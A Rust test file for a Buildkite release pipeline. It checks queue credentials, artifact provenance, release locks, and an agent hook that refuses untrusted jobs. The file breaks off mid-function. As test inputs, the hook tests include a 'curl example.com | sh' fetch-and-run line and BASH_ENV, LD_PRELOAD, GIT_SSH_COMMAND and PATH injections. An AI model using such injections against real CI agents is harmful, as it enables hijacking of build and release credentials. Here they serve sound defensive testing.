//! The Buildkite pipeline: valid for Buildkite, and consistent with the xtask. Each
//! check is also shown to fail on a pipeline broken the way it guards against.

use std::process::Command;

use expect_test::expect;
use xtask::domain::{
    names::tag::{self, ReleaseTag},
    pipeline::{
        queues::{self, Queue},
        test_stack_role,
    },
};
use xtask_aws::{
    pipeline::{Pipeline, RELEASE_BLOCK_LABEL, RELEASE_NAME_FIELD},
    pipeline_use,
};

use crate::support::{config, git, image_keys, system_tool, text, venv_tool, workspace_root, xtask_command};

fn pipeline_text() -> String {
    std::fs::read_to_string(workspace_root().join(".buildkite/pipeline.yml")).unwrap()
}

fn problems(text: &str) -> Vec<String> {
    Pipeline::parse(text).unwrap().check(&pipeline_use::of_args)
}

/// The pipeline with one exact piece of text replaced; the piece must be there.
fn broken(from: &str, to: &str) -> String {
    let text = pipeline_text();
    assert!(text.contains(from), "the pipeline no longer contains {from:?}; update this test");
    text.replacen(from, to, 1)
}

#[test]
fn the_pipeline_is_consistent_with_the_xtask() {
    assert_eq!(problems(&pipeline_text()), Vec::<String>::new());
}

#[test]
fn a_renamed_flag_breaks_the_check() {
    let found = problems(&broken(
        "publish-installer --artifacts target/artifacts",
        "publish-installer --artifact-dir target/artifacts",
    ));
    assert!(
        found.iter().any(|p| p
            .contains("step publish: `cargo xtask publish-installer --artifact-dir target/artifacts` does not parse")),
        "{found:?}"
    );
    let found = problems(&broken(
        "cargo xtask build-installer --target x86_64-apple-darwin",
        "cargo xtask build-installers --target x86_64-apple-darwin",
    ));
    assert!(found.iter().any(|p| p.contains("step installer-mac")), "{found:?}");
}

#[test]
fn a_download_of_something_no_earlier_step_uploads_breaks_the_check() {
    let found = problems(&broken("    artifact_paths: target/dist/amis-release.json\n", ""));
    assert!(
        found.iter().any(|p| p.contains("step release-templates downloads target/dist/amis-release.json")),
        "{found:?}"
    );
    let found = problems(&broken(
        "depends_on: [release-templates, installer-linux, installer-linux-again, installer-mac]",
        "depends_on: [release-templates, installer-linux, installer-linux-again]",
    ));
    assert!(found.iter().any(|p| p.contains("step publish downloads target/dist/*/*-apple-darwin*")), "{found:?}");
}

#[test]
fn a_meta_data_key_no_block_step_asks_for_breaks_the_check() {
    let found = problems(&broken("        key: release-name\n", "        key: release\n"));
    for step in ["release-check", "release-amis", "release-templates", "publish", "verify"] {
        assert!(
            found
                .iter()
                .any(|p| p.contains(&format!("step {step} takes the release name from meta-data release-name"))),
            "{step}: {found:?}"
        );
    }
    let found = problems(&broken(
        "      - cargo xtask publish-installer --artifacts target/artifacts",
        "      - buildkite-agent meta-data get approver\n      - cargo xtask publish-installer --artifacts target/artifacts",
    ));
    assert!(found.iter().any(|p| p.contains("step publish reads meta-data approver")), "{found:?}");
}

#[test]
fn a_step_using_the_prebuilt_xtask_without_waiting_for_its_build_breaks_the_check() {
    let found = problems(&broken("    depends_on: [ci, xtask]\n", "    depends_on: [ci]\n"));
    assert!(
        found
            .iter()
            .any(|p| p.contains("step internal-amis runs .buildkite/xtask.sh but does not depend on step xtask")),
        "{found:?}"
    );
}

/// Every way a step could get credentials it should not have, or write beside another
/// release: each broken pipeline and the whole list of problems the check finds.
#[test]
fn a_step_on_the_wrong_queue_or_outside_the_release_group_breaks_the_check() {
    let publish_on_ops = broken(
        "    depends_on: [release-templates, installer-linux, installer-linux-again, installer-mac]\n    agents:\n      queue: release\n",
        "    depends_on: [release-templates, installer-linux, installer-linux-again, installer-mac]\n    agents:\n      queue: ops\n",
    );
    let packer_on_build = broken(
        "    depends_on: build-block\n    agents:\n      queue: ops\n",
        "    depends_on: build-block\n    agents:\n      queue: build\n",
    );
    let no_queue = broken("    key: ci\n    agents:\n      queue: build\n", "    key: ci\n");
    let unknown_queue =
        broken("    key: ci\n    agents:\n      queue: build\n", "    key: ci\n    agents:\n      queue: default\n");
    let no_group = broken(
        "    concurrency: 1\n    command:\n      - cargo xtask release-lock acquire --build \"$BUILDKITE_BUILD_ID\"\n      - buildkite-agent artifact download target/dist/amis-release.json",
        "    command:\n      - cargo xtask release-lock acquire --build \"$BUILDKITE_BUILD_ID\"\n      - buildkite-agent artifact download target/dist/amis-release.json",
    );
    let no_lock = broken(
        "      - cargo xtask release-lock acquire --build \"$BUILDKITE_BUILD_ID\"\n      - buildkite-agent artifact download target/dist/amis-release.json",
        "      - buildkite-agent artifact download target/dist/amis-release.json",
    );
    let prebuilt_on_release = broken(
        "      - cargo xtask cfn upload --dir target/cfn/release --release",
        "      - .buildkite/xtask.sh cfn upload --dir target/cfn/release --release",
    );
    let unnamed_download = broken("target/artifacts --step installer-mac", "target/artifacts");
    let wrong_step_download =
        broken("target/artifacts --step installer-mac", "target/artifacts --step installer-linux");
    let status_on_build =
        broken("    command: .buildkite/xtask.sh verify\n", "    command: .buildkite/xtask.sh status v1\n");
    let dangling = broken("depends_on: release-amis", "depends_on: release-amiz");
    let broken_pipelines = [
        publish_on_ops,
        packer_on_build,
        no_queue,
        unknown_queue,
        no_group,
        status_on_build,
        dangling,
        no_lock,
        prebuilt_on_release,
        unnamed_download,
        wrong_step_download,
    ];
    let found: Vec<String> = broken_pipelines.iter().flat_map(|text| problems(text)).collect();
    expect![[r#"
        step publish runs `cargo xtask release-lock acquire --build 0190a3c2-7e1b-4f7a-9c55-2b7f7e0d9a11`, which writes release artifacts, on ops; only the release queue holds credentials for them
        step publish runs `cargo xtask publish-installer --artifacts target/artifacts`, which writes release artifacts, on ops; only the release queue holds credentials for them
        step publish runs `cargo xtask release-lock release --build 0190a3c2-7e1b-4f7a-9c55-2b7f7e0d9a11`, which writes release artifacts, on ops; only the release queue holds credentials for them
        step internal-amis runs `cargo xtask preflight --queue ops`, which reads AWS with credentials, on build, which holds none
        step internal-amis runs `cargo xtask amis build --commit 0000000000000000000000000000000000000000 --fetch-packages`, which writes internal artifacts, on build; only the ops queue holds credentials for them
        step ci names no queue (agents: queue:), so it would run on whatever agent the default queue has; name one of build, mac, ops, release
        step ci runs on queue default, which is not one of build, mac, ops, release
        step release-templates runs on the release queue outside concurrency_group readyset/release with concurrency 1, so two releases could write at once
        step verify runs `cargo xtask status v1`, which reads AWS with credentials, on build, which holds none
        step release-templates depends on release-amiz, which no step has as its key
        step release-templates downloads target/dist/amis-release.json from step release-amis, which is not a step it depends on that uploads it
        step release-templates takes the release name from meta-data release-name, which no block step before it asks for
        step release-templates writes release artifacts but does not start with `cargo xtask release-lock acquire --build "$BUILDKITE_BUILD_ID"`, so two release builds could interleave
        step release-templates runs .buildkite/xtask.sh on the release queue: that binary was built on the build queue, where any branch's code runs; release steps build their own with `cargo xtask`
        step publish downloads target/dist/*/*-apple-darwin* without --step <key>: any job of the build can upload that path, so name the step whose upload it trusts
        step publish downloads target/dist/*/*-apple-darwin* from step installer-linux, which is not a step it depends on that uploads it"#]].assert_eq(&found.join("\n"));
}

/// The block step checks the release name as it is typed, with the rule the xtask
/// applies: the field's `format` is `tag::PATTERN`, and that regex, run as Buildkite runs
/// it (an HTML `pattern`: anchored, JavaScript's `v` flag) by Node, accepts exactly the
/// names `ReleaseTag::parse` accepts.
#[test]
fn the_release_name_field_checks_names_as_the_xtask_does() {
    let pipeline = Pipeline::parse(&pipeline_text()).unwrap();
    let field = pipeline.step("release-block").unwrap().fields.iter().find(|f| f.key == RELEASE_NAME_FIELD).unwrap();
    assert_eq!(field.format.as_deref(), Some(tag::PATTERN));
    let found = problems(&broken("(?!.*\\.lock$)", ""));
    expect!["step release-block: field release-name must have format: the release-name rule of xtask/src/domain/tag.rs (tag::PATTERN), so a name the xtask refuses cannot be typed"].assert_eq(&found.join("\n"));

    let (longest, too_long) = ("x".repeat(64), "x".repeat(65));
    let names: [&str; 32] = [
        "v1",
        "v2024.06.1",
        "1.0",
        "V_1-rc.2",
        "a",
        "alphabet",
        "latest2",
        "v1.locker",
        &longest,
        "",
        "alpha",
        "ALPHA",
        "Latest",
        "v1..2",
        "v1.",
        "v1.lock",
        ".v1",
        "-v1",
        "_v1",
        "v 1",
        "v1/2",
        "v1:2",
        "v1~",
        "v1^",
        "v1\\",
        "v1@{",
        "über",
        "v1\n",
        &too_long,
        "v1*",
        "v1?",
        "v1[",
    ];
    // Browsers compile a `pattern` with the `v` flag, older ones with `u`; Node 20+ has
    // both, and every flag it has must give the same verdict.
    let script = format!(
        "const flags = ['u']; try {{ new RegExp('', 'v'); flags.push('v'); }} catch (e) {{}}\n\
         const res = flags.map(flag => new RegExp('^(?:' + {pattern} + ')$', flag));\n\
         for (const name of JSON.parse(process.argv[1])) {{\n\
           const verdicts = new Set(res.map(re => re.test(name) ? 'accepts' : 'refuses'));\n\
           console.log(verdicts.size === 1 ? [...verdicts][0] : 'flags disagree');\n\
         }}",
        pattern = serde_json::to_string(tag::PATTERN).unwrap()
    );
    let node = system_tool("node", "nodejs");
    let output =
        Command::new(node).arg("-e").arg(&script).arg(serde_json::to_string(&names).unwrap()).output().unwrap();
    assert!(output.status.success(), "node failed: {}", String::from_utf8_lossy(&output.stderr));
    let browser: Vec<String> = String::from_utf8(output.stdout).unwrap().lines().map(str::to_owned).collect();
    assert_eq!(browser.len(), names.len());
    for (name, verdict) in names.iter().zip(&browser) {
        let xtask = if ReleaseTag::parse(name).is_ok() { "accepts" } else { "refuses" };
        assert_eq!(verdict, xtask, "Buildkite's field {verdict} {name:?}, the xtask {xtask} it");
    }
    assert!(browser.iter().filter(|v| *v == "accepts").count() >= 9, "the table has names either way");
}

fn check_jsonschema(text: &str) -> std::process::Output {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("pipeline.yml");
    std::fs::write(&path, text).unwrap();
    Command::new(venv_tool("check-jsonschema", "check-jsonschema"))
        .args(["--builtin-schema", "vendor.buildkite"])
        .arg(&path)
        .output()
        .unwrap()
}

#[test]
fn the_pipeline_validates_against_the_buildkite_schema_and_a_broken_one_does_not() {
    let valid = check_jsonschema(&pipeline_text());
    assert!(valid.status.success(), "{}", String::from_utf8_lossy(&valid.stdout));
    let invalid =
        check_jsonschema(&broken("    prompt: Release this commit to customers\n", "    prompt: [not, a, string]\n"));
    assert!(!invalid.status.success(), "the schema check accepts a broken pipeline");
}

#[test]
fn the_release_block_step_is_the_one_release_names() {
    let pipeline = Pipeline::parse(&pipeline_text()).unwrap();
    let block = pipeline.step("release-block").unwrap();
    assert_eq!(block.label, RELEASE_BLOCK_LABEL);
    assert_eq!(block.field_keys().collect::<Vec<_>>(), vec![RELEASE_NAME_FIELD]);
    assert_eq!(block.branches.as_deref(), Some("main"));
    for step in &pipeline.steps {
        if pipeline.ancestors(&step.key).contains("release-block") {
            assert_eq!(step.branches.as_deref(), Some("main"), "release step {} runs only on main", step.key);
        }
    }
    assert_eq!(pipeline.step("installer-mac").unwrap().queue.as_deref(), Some("mac"));
}

/// Every `cargo xtask` line of the release documents parses with the real command line,
/// and every script they name exists.
#[test]
fn every_command_in_the_release_documents_parses() {
    let mut checked = 0;
    for document in ["RELEASE.md", "README.md", "ops/cfn-test/README.md"] {
        let text = std::fs::read_to_string(workspace_root().join(document)).unwrap();
        let mut in_code = false;
        for line in text.lines() {
            if line.trim_start().starts_with("```") {
                in_code = !in_code;
                continue;
            }
            // A comment, or where the shell sends the output, is not the command's.
            let command = line.split(" #").next().unwrap().split(" > ").next().unwrap().trim();
            if in_code && command.starts_with("cargo xtask ") {
                let words = shlex::split(command).unwrap();
                let parsed = xtask_aws::pipeline_use::of_args(&words[2..]);
                assert!(parsed.is_ok(), "{document}: `{command}` does not parse: {}", parsed.unwrap_err());
                checked += 1;
            }
            if in_code && command.starts_with("ops/") {
                let script = command.split_whitespace().next().unwrap();
                assert!(workspace_root().join(script).exists(), "{document} names {script}, which does not exist");
            }
        }
    }
    assert!(checked >= 15, "only {checked} commands found; did the documents lose their code blocks?");
}

/// The hooked agents read main's list of the steps they run; it is this pipeline's own.
#[test]
fn the_trusted_steps_file_is_generated_from_the_pipeline() {
    let pipeline = Pipeline::parse(&pipeline_text()).unwrap();
    let text = serde_json::to_string_pretty(&pipeline.trusted_steps()).unwrap() + "\n";
    expect_test::expect_file!["../../../.buildkite/trusted-steps.json"].assert_eq(&text);
}

/// A value as the Buildkite agent writes it into BUILDKITE_ENV_FILE: Go's `%q`.
fn go_quote(value: &str) -> String {
    let mut out = String::from("\"");
    for c in value.chars() {
        match c {
            '\\' => out += "\\\\",
            '"' => out += "\\\"",
            '\n' => out += "\\n",
            '\t' => out += "\\t",
            c if (c as u32) < 0x20 => out += &format!("\\x{:02x}", c as u32),
            c => out.push(c),
        }
    }
    out + "\""
}

/// One job as the agent hands it to the pre-bootstrap hook: its variables in a file.
struct Job(std::collections::BTreeMap<String, String>);

impl Job {
    fn with(mut self, name: &str, value: &str) -> Job {
        self.0.insert(name.to_owned(), value.to_owned());
        self
    }
    fn without(mut self, name: &str) -> Job {
        self.0.remove(name);
        self
    }
}

/// The agent hook of the ops, release and mac agents (ops/buildkite-agent/hooks/
/// pre-bootstrap), run as the agent runs it: its own environment is the agent's, the
/// job's is a file in Buildkite's format (`KEY="Go-quoted"` lines, or JSON). Main's
/// trusted steps come from a test repository's main, fetched into the hook's mirror.
/// Every refusal, and the jobs it lets through; BASH_ENV is shown never to run.
#[test]
fn the_agent_hook_refuses_any_job_that_is_not_mains_step_as_main_gives_it() {
    let dir = tempfile::tempdir().unwrap();
    let origin = dir.path().join("origin");
    std::fs::create_dir_all(origin.join(".buildkite")).unwrap();
    git(&origin, &["init", "--quiet"]);
    std::fs::copy(workspace_root().join(".buildkite/trusted-steps.json"), origin.join(".buildkite/trusted-steps.json"))
        .unwrap();
    git(&origin, &["add", "."]);
    git(&origin, &["commit", "--quiet", "-m", "on main"]);
    let on_main = git(&origin, &["rev-parse", "HEAD"]);
    git(&origin, &["switch", "--quiet", "-c", "feature"]);
    git(&origin, &["commit", "--quiet", "--allow-empty", "-m", "on a branch"]);
    let on_branch = git(&origin, &["rev-parse", "HEAD"]);
    let repo = origin.display().to_string();
    let trusted: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(workspace_root().join(".buildkite/trusted-steps.json")).unwrap())
            .unwrap();
    let command_of = |key: &str| {
        let steps = trusted["steps"].as_array().unwrap();
        steps.iter().find(|s| s["key"] == key).unwrap()["command"].as_str().unwrap().to_owned()
    };
    let marker = dir.path().join("bash-env-ran");
    let evil = dir.path().join("evil.sh");
    std::fs::write(&evil, format!("touch {}\n", marker.display())).unwrap();
    let job = |key: &str, branch: &str, commit: &str| {
        let vars = [
            ("BUILDKITE", "true"),
            ("CI", "true"),
            ("BUILDKITE_PIPELINE_SLUG", "readyset"),
            ("BUILDKITE_REPO", repo.as_str()),
            ("BUILDKITE_BRANCH", branch),
            ("BUILDKITE_COMMIT", commit),
            ("BUILDKITE_STEP_KEY", key),
            ("BUILDKITE_BUILD_ID", "0190a3c2-7e1b-4f7a-9c55-2b7f7e0d9a11"),
            ("BUILDKITE_BUILD_NUMBER", "812"),
            ("BUILDKITE_BUILD_URL", "https://buildkite.com/readyset/readyset/builds/812"),
            ("BUILDKITE_JOB_ID", "0190a3c2-0000-4f7a-9c55-2b7f7e0d9a11"),
            ("BUILDKITE_LABEL", "a step"),
            ("BUILDKITE_MESSAGE", "a \"quoted\"\nmessage of two lines"),
            ("BUILDKITE_PULL_REQUEST", "false"),
            ("BUILDKITE_PLUGINS", ""),
            ("BUILDKITE_AGENT_META_DATA_QUEUE", "release"),
            ("BUILDKITE_UNBLOCKER", "A Release Engineer"),
            ("BUILDKITE_UNBLOCKER_ID", "0190a3c2-1111-4f7a-9c55-2b7f7e0d9a11"),
            ("BUILDKITE_UNBLOCKER_TEAMS", "release-engineers"),
        ];
        let mut job = Job(vars.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect());
        job.0.insert("BUILDKITE_COMMAND".into(), command_of(key));
        job
    };
    let mirror = dir.path().join("mirror");
    let run = |queue: &str, job: Job, json: bool| {
        let file = dir.path().join(if json { "env.json" } else { "env" });
        let mut command = Command::new(workspace_root().join("ops/buildkite-agent/hooks/pre-bootstrap"));
        command.env_remove("BUILDKITE_ENV_JSON_FILE").env_remove("BUILDKITE_ENV_FILE");
        if json {
            std::fs::write(&file, serde_json::to_string(&job.0).unwrap()).unwrap();
            command.env("BUILDKITE_ENV_JSON_FILE", &file);
        } else {
            let lines: Vec<String> = job.0.iter().map(|(k, v)| format!("{k}={}", go_quote(v))).collect();
            std::fs::write(&file, lines.join("\n") + "\n").unwrap();
            command.env("BUILDKITE_ENV_FILE", &file);
        }
        let agent = [
            ("READYSET_RELEASE_PIPELINE", "readyset"),
            ("READYSET_REPO", repo.as_str()),
            ("READYSET_AGENT_QUEUE", queue),
            ("READYSET_MAIN_MIRROR", mirror.to_str().unwrap()),
        ];
        let output = command.envs(agent.iter().copied()).output().unwrap();
        let stderr = text(&output.stderr);
        let lines: Vec<&str> = stderr.lines().filter(|l| !l.contains("only the steps of main's")).collect();
        assert_eq!(output.status.success(), lines.is_empty(), "{stderr}");
        let shown = lines
            .join("\n")
            .replace(&on_main, "<main>")
            .replace(&on_main[..12], "<main, 12 digits>")
            .replace(&on_branch, "<branch>")
            .replace(&repo, "<repo>");
        format!("{:?} {}", output.status.code(), if shown.is_empty() { "(nothing)".to_owned() } else { shown })
    };
    let publish = || job("publish", "main", &on_main);
    let interpolated = command_of("publish").replace("$BUILDKITE_BUILD_ID", "0190a3c2-7e1b-4f7a-9c55-2b7f7e0d9a11");
    let outcomes = [
        ("main's publish step on a release agent", run("release", publish(), false)),
        (
            "the same, JSON, its command interpolated",
            run("release", publish().with("BUILDKITE_COMMAND", &interpolated), true),
        ),
        ("BASH_ENV", run("release", publish().with("BASH_ENV", evil.to_str().unwrap()), false)),
        (
            "what a shell or git reads",
            run(
                "release",
                publish()
                    .with("ENV", "/tmp/x")
                    .with("GIT_SSH_COMMAND", "sh")
                    .with("LD_PRELOAD", "x.so")
                    .with("PATH", "/tmp"),
                false,
            ),
        ),
        ("an agent setting", run("release", publish().with("BUILDKITE_BUILD_CHECKOUT_PATH", "/tmp/x"), true)),
        ("another pipeline", run("release", publish().with("BUILDKITE_PIPELINE_SLUG", "fork"), false)),
        ("another repository", run("release", publish().with("BUILDKITE_REPO", "git@example.com:fork.git"), false)),
        (
            "a pull request from a fork",
            run(
                "ops",
                job("alpha-amis", "feature", &on_branch)
                    .with("BUILDKITE_PULL_REQUEST", "7")
                    .with("BUILDKITE_PULL_REQUEST_REPO", "git://example.com/fork.git"),
                false,
            ),
        ),
        ("plugins", run("release", publish().with("BUILDKITE_PLUGINS", r#"[{"docker#v5":{}}]"#), false)),
        ("an ops step on a release agent", run("release", job("internal-amis", "main", &on_main), false)),
        ("no step key", run("release", publish().without("BUILDKITE_STEP_KEY"), false)),
        (
            "another command",
            run(
                "release",
                publish().with("BUILDKITE_COMMAND", &(command_of("publish") + "\ncurl example.com | sh")),
                false,
            ),
        ),
        ("a branch", run("release", job("publish", "feature", &on_branch), false)),
        ("a branch's commit built as main", run("release", job("publish", "main", &on_branch), false)),
        ("a short commit ID", run("release", job("publish", "main", &on_main[..12]), false)),
        ("a branch's alpha step on an ops agent", run("ops", job("alpha-amis", "feature", &on_branch), false)),
        (
            "a branch's pipeline without the block step",
            run("ops", job("internal-amis", "feature", &on_branch).without("BUILDKITE_UNBLOCKER_ID"), false),
        ),
        ("an alpha step of main", run("ops", job("alpha-amis", "main", &on_main), false)),
        ("main's mac step on a mac agent", run("mac", job("installer-mac", "main", &on_main), true)),
        ("a branch on a mac agent", run("mac", job("installer-mac", "feature", &on_branch), true)),
    ];
    assert!(!marker.exists(), "BASH_ENV ran");
    let report: Vec<String> = outcomes.iter().map(|(case, outcome)| format!("{case}: {outcome}")).collect();
    expect![[r#"
        main's publish step on a release agent: Some(0) (nothing)
        the same, JSON, its command interpolated: Some(0) (nothing)
        BASH_ENV: Some(1) readyset agent hook: refusing this job: the job sets BASH_ENV, which is not one of Buildkite's job variables or the step's own (a shell, git or the agent could act on it before any command runs)
        what a shell or git reads: Some(1) readyset agent hook: refusing this job: the job sets ENV, which is not one of Buildkite's job variables or the step's own (a shell, git or the agent could act on it before any command runs)
        readyset agent hook: refusing this job: the job sets GIT_SSH_COMMAND, which is not one of Buildkite's job variables or the step's own (a shell, git or the agent could act on it before any command runs)
        readyset agent hook: refusing this job: the job sets LD_PRELOAD, which is not one of Buildkite's job variables or the step's own (a shell, git or the agent could act on it before any command runs)
        readyset agent hook: refusing this job: the job sets PATH, which is not one of Buildkite's job variables or the step's own (a shell, git or the agent could act on it before any command runs)
        an agent setting: Some(1) readyset agent hook: refusing this job: the job sets BUILDKITE_BUILD_CHECKOUT_PATH, which is not one of Buildkite's job variables or the step's own (a shell, git or the agent could act on it before any command runs)
        another pipeline: Some(1) readyset agent hook: refusing this job: pipeline fork is not readyset
        another repository: Some(1) readyset agent hook: refusing this job: repository git@example.com:fork.git is not <repo>
        a pull request from a fork: Some(1) readyset agent hook: refusing this job: it is a build of pull request 7 (from git://example.com/fork.git); pull requests never run on these agents, only branch builds
        plugins: Some(1) readyset agent hook: refusing this job: the step uses plugins, and no step of main's pipeline for this queue does
        an ops step on a release agent: Some(1) readyset agent hook: refusing this job: step internal-amis is not a step main's pipeline sends to the release queue (release-amis, release-templates, installer-linux, publish)
        no step key: Some(1) readyset agent hook: refusing this job: step <no key> is not a step main's pipeline sends to the release queue (release-amis, release-templates, installer-linux, publish)
        another command: Some(1) readyset agent hook: refusing this job: the command of step publish is not the one main's pipeline gives it:
          expected: 'cargo xtask release-lock acquire --build "$BUILDKITE_BUILD_ID"\nbuildkite-agent artifact download "target/dist/*/x86_64-unknown-linux-gnu*" target/artifacts --step installer-linux\nbuildkite-agent artifact download "target/dist-again/*/x86_64-unknown-linux-gnu*" target/artifacts --step installer-linux-again\nbuildkite-agent artifact download "target/dist/*/*-apple-darwin*" target/artifacts --step installer-mac\ncargo xtask publish-installer --artifacts target/artifacts\ncargo xtask release-lock release --build "$BUILDKITE_BUILD_ID"'
          got:      'cargo xtask release-lock acquire --build "$BUILDKITE_BUILD_ID"\nbuildkite-agent artifact download "target/dist/*/x86_64-unknown-linux-gnu*" target/artifacts --step installer-linux\nbuildkite-agent artifact download "target/dist-again/*/x86_64-unknown-linux-gnu*" target/artifacts --step installer-linux-again\nbuildkite-agent artifact download "target/dist/*/*-apple-darwin*" target/artifacts --step installer-mac\ncargo xtask publish-installer --artifacts target/artifacts\ncargo xtask release-lock release --build "$BUILDKITE_BUILD_ID"\ncurl example.com | sh'
        a branch: Some(1) readyset agent hook: refusing this job: step publish runs on branches main, and this build is of feature
        readyset agent hook: refusing this job: branch feature is not main
        a branch's commit built as main: Some(1) readyset agent hook: refusing this job: commit <branch> is not on main (not an ancestor of main as fetched now)
        a short commit ID: Some(1) readyset agent hook: refusing this job: commit <main, 12 digits> is not a full commit ID
        a branch's alpha step on an ops agent: Some(0) (nothing)
        a branch's pipeline without the block step: Some(1) readyset agent hook: refusing this job: step internal-amis follows a block step in main's pipeline, and nobody unblocked this build (no BUILDKITE_UNBLOCKER_ID): the build's own pipeline left the block step out
        an alpha step of main: Some(1) readyset agent hook: refusing this job: step alpha-amis runs on branches !main, and this build is of main
        main's mac step on a mac agent: Some(0) (nothing)
        a branch on a mac agent: Some(1) readyset agent hook: refusing this job: step installer-mac runs on branches main, and this build is of feature
        readyset agent hook: refusing this job: branch feature is not main"#]].assert_eq(&report.join("\n"));
    let unset = Command::new(workspace_root().join("ops/buildkite-agent/hooks/pre-bootstrap"))
        .env_remove("READYSET_RELEASE_PIPELINE")
        .output()
        .unwrap();
    expect![[r#"
        readyset agent hook: refusing this job: READYSET_RELEASE_PIPELINE is not set in the agent's environment, so this agent trusts no job (RELEASE.md, Agents and their credentials)
        readyset agent hook: only the steps of main's .buildkite/pipeline.yml run on this agent, as main gives them (RELEASE.md, Agents and their credentials)
    "#]].assert_eq(&text(&unset.stderr));
    // Job files the hook cannot read are refusals, never guesses.
    let malformed = |name: &str, body: &str| {
        let file = dir.path().join(name);
        std::fs::write(&file, body).unwrap();
        let variable = if name.ends_with(".json") { "BUILDKITE_ENV_JSON_FILE" } else { "BUILDKITE_ENV_FILE" };
        let output = Command::new(workspace_root().join("ops/buildkite-agent/hooks/pre-bootstrap"))
            .env_remove("BUILDKITE_ENV_JSON_FILE")
            .env_remove("BUILDKITE_ENV_FILE")
            .env(variable, &file)
            .envs([
                ("READYSET_RELEASE_PIPELINE", "readyset"),
                ("READYSET_REPO", repo.as_str()),
                ("READYSET_AGENT_QUEUE", "release"),
                ("READYSET_MAIN_MIRROR", mirror.to_str().unwrap()),
            ])
            .output()
            .unwrap();
        format!("{name}: {:?} {}", output.status.code(), text(&output.stderr).lines().next().unwrap_or_default())
    };
    let cases = [
        malformed("unterminated", "BUILDKITE_COMMAND=\"echo\n"),
        malformed("unknown-escape", "BUILDKITE_COMMAND=\"a\\qb\"\n"),
        malformed("no-value", "not a variable line\n"),
        malformed("list.json", "[\"not\", \"an object\"]"),
        malformed("broken.json", "{\"BUILDKITE\": "),
    ];
    expect![[r#"
        unterminated: Some(1) readyset agent hook: refusing this job: line 1 of the job's environment file is not KEY="value"
        unknown-escape: Some(1) readyset agent hook: refusing this job: line 1 of the job's environment file has an escape this hook does not know
        no-value: Some(1) readyset agent hook: refusing this job: line 1 of the job's environment file is not KEY="value"
        list.json: Some(1) readyset agent hook: refusing this job: the job's environment (BUILDKITE_ENV_JSON_FILE) is not an object of strings
        broken.json: Some(1) readyset agent hook: refusing this job: the job's environment (BUILDKITE_ENV_JSON_FILE) is not JSON: Expecting value: line 1 column 15 (char 14)"#]].assert_eq(&cases.join("\n"));
}

/// `.buildkite/xtask.sh` runs the binary of this build's xtask step only: downloaded
/// from that step by name into a fresh private directory, and run only if its SHA-256 is
/// the one Buildkite recorded for that step's upload. The agent is the rehearsal's
/// stand-in; the "binary" is a script.
#[test]
fn the_pipeline_runs_only_the_xtask_binary_its_build_recorded() {
    let dir = tempfile::tempdir().unwrap();
    let (agent, tmp) = (dir.path().join("agent"), dir.path().join("tmp"));
    for sub in ["bin", "artifacts/xtask/target/pipeline", "artifacts/other/target/pipeline"] {
        std::fs::create_dir_all(agent.join(sub)).unwrap();
    }
    std::fs::create_dir_all(&tmp).unwrap();
    std::fs::copy(workspace_root().join("xtask-aws/emulator/buildkite-agent"), agent.join("bin/buildkite-agent"))
        .unwrap();
    let stored = agent.join("artifacts/xtask/target/pipeline/xtask-aws");
    std::fs::write(&stored, b"#!/bin/sh\necho \"the xtask of build 42 ran with: $*\"\n").unwrap();
    // Another job of the build uploads a binary of the same path: never the one run.
    std::fs::write(agent.join("artifacts/other/target/pipeline/xtask-aws"), b"#!/bin/sh\necho other\n").unwrap();
    let path = format!("{}:{}", agent.join("bin").display(), std::env::var("PATH").unwrap());
    let root = workspace_root().display().to_string();
    let run = |build: Option<&str>| {
        let mut command = Command::new(workspace_root().join(".buildkite/xtask.sh"));
        command.args(["status", "v1"]).env("REHEARSAL_DIR", &agent).env("TMPDIR", &tmp).env("PATH", &path);
        match build {
            Some(id) => command.env("BUILDKITE_BUILD_ID", id),
            None => command.env_remove("BUILDKITE_BUILD_ID"),
        };
        let output = command.output().unwrap();
        let text = format!("{}{}", text(&output.stdout), text(&output.stderr));
        let left: Vec<_> = std::fs::read_dir(&tmp).unwrap().collect();
        format!(
            "{:?} {} (left in $TMPDIR: {})",
            output.status.code(),
            text.replace(&root, "<checkout>").trim_end(),
            left.len()
        )
    };
    let mut outcomes = vec![("as built", run(Some("0190-b42")))];
    // The stand-in's record is the stored file's digest: a record of other bytes is a
    // download that differs from the upload.
    let shasum = agent.join("bin/buildkite-agent");
    let real = std::fs::read_to_string(&shasum).unwrap();
    std::fs::write(&shasum, real.replace("    echo \"${sum%% *}\"", &format!("    echo {}", "0".repeat(64)))).unwrap();
    outcomes.push(("a download that is not what the step uploaded", run(Some("0190-b42"))));
    outcomes.push(("outside Buildkite", run(None)));
    let report: Vec<String> = outcomes.iter().map(|(case, outcome)| format!("{case}: {outcome}")).collect();
    expect![[r#"
        as built: Some(0) the xtask of build 42 ran with: status v1
        downloaded 1 file(s) for target/pipeline/xtask-aws from step xtask (left in $TMPDIR: 0)
        a download that is not what the step uploaded: Some(1) downloaded 1 file(s) for target/pipeline/xtask-aws from step xtask
        refusing to run the xtask: the download of target/pipeline/xtask-aws from step xtask has sha256 38ff0f2469556f5c2f9db9d962d4c46c417ba3bc3a6dc563df6cfa6bd327c344, and Buildkite recorded 0000000000000000000000000000000000000000000000000000000000000000 for that step's upload.
        Retry this step; if it fails again, retry the "Build the xtask" step. (left in $TMPDIR: 0)
        outside Buildkite: Some(1) <checkout>/.buildkite/xtask.sh: line 8: BUILDKITE_BUILD_ID: .buildkite/xtask.sh runs inside a Buildkite job; elsewhere run cargo xtask (left in $TMPDIR: 0)"#]].assert_eq(&report.join("\n"));
}

/// RELEASE.md shows each queue's policy, and the test-stack role's trust and policy,
/// exactly as `cargo xtask iam-policy` prints them.
#[test]
fn the_release_document_shows_the_policies_the_xtask_prints() {
    let document = std::fs::read_to_string(workspace_root().join("RELEASE.md")).unwrap();
    let pretty = |policy: serde_json::Result<String>| policy.unwrap();
    let mut printed: Vec<(String, String)> = [Queue::Ops, Queue::Release]
        .into_iter()
        .map(|queue| {
            (queue.to_string(), pretty(serde_json::to_string_pretty(&queues::policy(queue, config(), image_keys()))))
        })
        .collect();
    printed.push(("test-stacks".into(), pretty(serde_json::to_string_pretty(&test_stack_role::policy(config())))));
    printed
        .push(("test-stacks --trust".into(), pretty(serde_json::to_string_pretty(&test_stack_role::trust_policy()))));
    for (args, printed) in printed {
        let marker = format!("<!-- cargo xtask iam-policy {args} -->\n```json\n");
